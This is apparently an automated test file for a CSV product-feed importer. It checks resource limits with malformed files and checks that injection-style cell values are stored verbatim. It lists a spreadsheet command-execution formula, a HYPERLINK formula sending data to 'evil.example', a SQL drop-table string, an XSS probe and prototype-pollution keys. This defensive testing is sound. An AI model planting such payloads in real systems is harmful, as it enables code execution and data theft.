import { readFileSync } from 'node:fs';
import type { ApiClient } from '../support/api-client';
import { mebibyte, eventually } from '../support/harness';
import { manyProducts } from '../support/catalog';
import { startUsedService } from '../support/process';
import { startTestService, type TestService } from '../support/service';
import { rawFilePath } from '../support/stored-uploads';

const head = 'sku,product_name\n';
const many = (text: string, bytes = 2 * mebibyte) => text.repeat(Math.ceil(bytes / Buffer.byteLength(text)));
const wideHead = (columns: number) =>
  `sku,product_name${Array.from({ length: columns }, (_, at) => `,c${at}`).join('')}`;
const tooLong = 'Invalid CSV file: The header row is longer than 262144 bytes.';
const openQuote = (line: number) =>
  `ETL processing failed: The quote that opens in the record at line ${line} is never closed.`;

interface Monster {
  what: string;
  csv: () => string;
  /** What an upload says, if it refuses it. */
  refusal?: string;
  /** How a run begins to say that it has failed. */
  failure?: string;
  /** The counters of a run. */
  processed?: number;
  skipped?: number;
}

const monsters: Monster[] = [
  { what: 'a header that never ends', csv: () => many('x'), refusal: tooLong },
  { what: 'a header of columns that never ends', csv: () => many('sku,product_name,'), refusal: tooLong },
  {
    what: 'a quote in the header that never closes',
    csv: () => `"${many('sku,product_name\n')}`,
    refusal: tooLong,
  },
  {
    what: 'ten thousand columns',
    csv: () => `${wideHead(10_000)}\n${`A,Tent${','.repeat(10_000)}\n`.repeat(100)}`,
    processed: 100,
    skipped: 99,
  },
  {
    what: 'all the columns that fit',
    csv: () => `sku,product_name${','.repeat(250_000)}\nA,Tent\n`,
    processed: 1,
    skipped: 0,
  },
  {
    what: 'a cell of five megabytes',
    csv: () => `${head}A,Tent\nB,"${many('x', 5 * mebibyte)}"\nC,Lamp\n`,
    processed: 3,
    skipped: 1,
  },
  {
    what: 'a cell of five megabytes without quotes',
    csv: () => `${head}A,${many('x', 5 * mebibyte)}\n`,
    processed: 1,
    skipped: 1,
  },
  {
    what: 'an unclosed quote at the end',
    csv: () => `${head}${`A,${'x'.repeat(197)}\n`.repeat(10_000)}B,"Lamp\n`,
    failure: openQuote(10_002),
  },
  {
    what: 'an unclosed quote at the beginning',
    csv: () => `${head}A,"Tent\n${many('B,Lamp\n')}`,
    failure: openQuote(2),
  },
  {
    what: 'a row of a million commas',
    csv: () => `${head}A,Tent\n${','.repeat(1_000_000)}\nB,Lamp\n`,
    processed: 3,
    skipped: 1,
  },
  {
    what: 'a row of half a million commas',
    csv: () => `${head}A,Tent\n${','.repeat(500_000)}\nB,Lamp\n`,
    processed: 3,
    skipped: 1,
  },
  { what: 'quotes and nothing else', csv: () => `${head}${many('"')}`, processed: 1, skipped: 1 },
  { what: 'quotes, one too many', csv: () => `${head}${many('"')}"`, failure: openQuote(2) },
  {
    what: 'a row of five megabytes between others, of text after closing quotes',
    csv: () => `${head}A,Tent\n"B","x"${many('y"\r', 5 * mebibyte)}\nC,Lamp\n`,
    processed: 3,
    skipped: 1,
  },
  {
    what: 'pairs of quotes',
    csv: () => `${head}${'"","""",""\n'.repeat(10_000)}`,
    processed: 10_000,
    skipped: 10_000,
  },
  {
    what: 'alternating delimiters',
    csv: () => `${head}${'a,b;c\td\ne;f,g\n'.repeat(10_000)}`,
    processed: 20_000,
    skipped: 19_998,
  },
  {
    what: 'a million empty lines',
    csv: () => `${head}${'\n'.repeat(1_000_000)}A,Tent\n${'\r\n'.repeat(1_000_000)}`,
    processed: 1,
    skipped: 0,
  },
  {
    what: 'a hundred thousand lines of a comma',
    csv: () => `${head}${',\n'.repeat(100_000)}`,
    processed: 100_000,
    skipped: 100_000,
  },
  {
    what: 'NUL bytes',
    csv: () => `${head}${many('\0', 400_000)}\nA\0,Tent\nB,Lamp\n`,
    processed: 3,
    skipped: 2,
  },
  {
    what: 'carriage returns',
    csv: () => `${head}A,${'\r'.repeat(400_000)}x\nB,\r\r\n`,
    processed: 2,
    skipped: 1,
  },
];

/** The most memory that the process has ever had, in MB. */
function peakMegabytes(pid: number): number {
  const [, kilobytes] = /^VmHWM:\s+(\d+) kB$/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))!;
  return (Number(kilobytes) * 1024) / 1e6;
}

/** How long the slowest request had to wait while `work` went on, in milliseconds. */
async function slowestDuring(api: ApiClient, work: () => Promise<unknown>): Promise<number> {
  let [slowest, ended] = [0, false];
  const working = work().finally(() => (ended = true));
  await eventually(
    'the work has ended',
    async () => {
      const asked = performance.now();
      expect((await api.get('/products')).status).toBe(200);
      slowest = Math.max(slowest, performance.now() - asked);
      return ended;
    },
    60,
  );
  await working;
  return slowest;
}

describe('a CSV monster', () => {
  it('is refused, fails or has its rows skipped in a process that stays small and quick', async () => {
    const { api, pid } = await startUsedService();
    const well = manyProducts(10_000);
    const usual = await slowestDuring(api, () => api.loadFeed(well));

    for (const monster of monsters) {
      const csv = monster.csv();
      const slowest = await slowestDuring(api, () => meet(api, monster, csv));

      // A machine that does something else for a moment is none of its doing.
      const times = slowest / Math.max(usual, 100);
      if (times >= 10) throw new Error(`${monster.what}: others waited ${times} times as long as usual`);
    }
    // One after the other they leave both heaps as large as each needed at its worst.
    expect(peakMegabytes(pid)).toBeLessThan(300);
  });
});

/** Inspects, uploads and runs it, and holds the three against what is expected and each other. */
async function meet(api: ApiClient, monster: Monster, csv: string): Promise<void> {
  const partnerName = monster.what;
  const { what, refusal = null, failure } = monster;
  const inspection = await api.inspect({ csv, partnerName });
  expect({ what, status: inspection.status, refusal: inspection.body.refusal as unknown }).toEqual({
    what,
    status: 200,
    refusal,
  });
  expect(JSON.stringify(inspection.body).length).toBeLessThan(2 * mebibyte);

  const upload = await api.upload({ csv, partnerName });
  expect({ what, status: upload.status, detail: upload.body.detail as unknown }).toEqual({
    what,
    status: refusal === null ? 201 : 400,
    detail: refusal ?? undefined,
  });
  if (refusal !== null) return;

  const { status, body } = await api.post(`/jobs/${upload.body.validation_job_id}/run`);
  expect(status).toBe(200);
  const { processed, inserted, updated, unchanged, skipped } = body.summary as Record<string, number>;
  expect(processed).toBe(inserted! + updated! + unchanged! + skipped!);
  if (failure !== undefined) {
    expect({
      what,
      status: body.status as string,
      message: (body.message as string).slice(0, failure.length),
    }).toEqual({ what, status: 'failed', message: failure });
    expect(inserted).toBe(0);
  } else {
    expect({ what, processed, skipped }).toEqual({
      what,
      processed: monster.processed,
      skipped: monster.skipped,
    });
  }
}

describe('cells and columns that mean something elsewhere', () => {
  let service: TestService;
  beforeAll(async () => {
    service = await startTestService();
  });

  const formulas = [
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '|calc',
    '%0A=1',
    '\\N',
    '\\.',
    "'; drop table products; --",
    '<script>alert(1)</script>',
    '{{7*7}}',
    '${7*7}',
    '__proto__',
  ];
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

  it('come back byte for byte: formulas are text to us, whatever a spreadsheet makes of them', async () => {
    const csv = `sku,product_name,description\n${formulas.map((text, at) => `${at},${quoted(`x${text}`)},${quoted(text.trim())}\n`).join('')}`;
    const { feedId, job } = await service.api.loadFeed(csv, 'Formulas');

    expect(job.summary).toMatchObject({ inserted: formulas.length, skipped: 0 });
    const { body } = await service.api.get('/products?partner_name=Formulas&limit=100');
    const bySku = new Map((body.items as { sku: string }[]).map((item) => [item.sku, item]));
    for (const [at, text] of formulas.entries()) {
      expect(bySku.get(String(at))).toMatchObject({ product_name: `x${text}`, description: text.trim() });
    }
    expect((await service.api.get(`/feeds/${feedId}/raw`)).body).toBe(csv);
    expect(readFileSync(await rawFilePath(service, feedId), 'utf8')).toBe(csv);
  });

  it('of a rejected row come back as they were sent, behind added columns without formulas', async () => {
    const rows = formulas.map((text) => `,${quoted(text)}`);
    const { jobId } = await service.api.loadFeed(
      `sku,product_name\n${rows.join('\n')}\n`,
      'Rejected formulas',
    );

    const { body } = await service.api.get(`/jobs/${jobId}/rejects.csv`);

    const lines = (body as string).trimEnd().split('\n').slice(1);
    expect(lines).toHaveLength(rows.length);
    for (const [at, line] of lines.entries()) {
      expect(line.endsWith(`,${rows[at]}`)).toBe(true);
      expect(line).toMatch(/^\d+,[a-z_]+,/);
    }
  });

  it('as headers are columns like any other', async () => {
    const names = [
      '__proto__',
      'constructor',
      'prototype',
      'hasOwnProperty',
      'toString',
      'valueOf',
      '__defineGetter__',
      'length',
    ];
    const csv = `${names.join()},sku,product_name\n${names.map(() => 'x').join()},A,Tent\n`;
    const before = Object.getOwnPropertyNames(Object.prototype);

    const inspection = await service.api.inspect({ csv, partnerName: 'Prototypes' });
    const { job } = await service.api.loadFeed(csv, 'Prototypes');
    const missing = await service.api.upload({ csv: `${names.join()}\nx\n`, partnerName: 'Prototypes' });

    expect(inspection.body).toMatchObject({
      accepted: true,
      row_count: 1,
      rows: [{ values: { sku: 'A', product_name: 'Tent' } }],
    });
    expect(job.summary).toMatchObject({ inserted: 1, skipped: 0 });
    // One that begins with an underscore is taken for a column of a report.
    const unknown = names.filter((name) => !name.startsWith('_')).length;
    expect(job.issue_counts).toEqual([expect.objectContaining({ code: 'unknown_column', count: unknown })]);
    expect(missing.status).toBe(400);
    expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(before);
  });

  it('as skus are skus', async () => {
    const skus = [
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      '\\N',
      '\\.',
      'null',
      'undefined',
      'NaN',
    ];
    const { job } = await service.api.loadFeed(
      `sku,product_name\n${skus.map((sku) => `${sku},Tent\n`).join('')}`,
      'Skus',
    );

    expect(job.summary).toMatchObject({ inserted: skus.length, skipped: 0 });
    for (const sku of skus) {
      const { body } = await service.api.get(`/products?partner_name=Skus&sku=${encodeURIComponent(sku)}`);
      expect(body).toMatchObject({ count: 1, items: [{ sku }] });
    }
  });
});
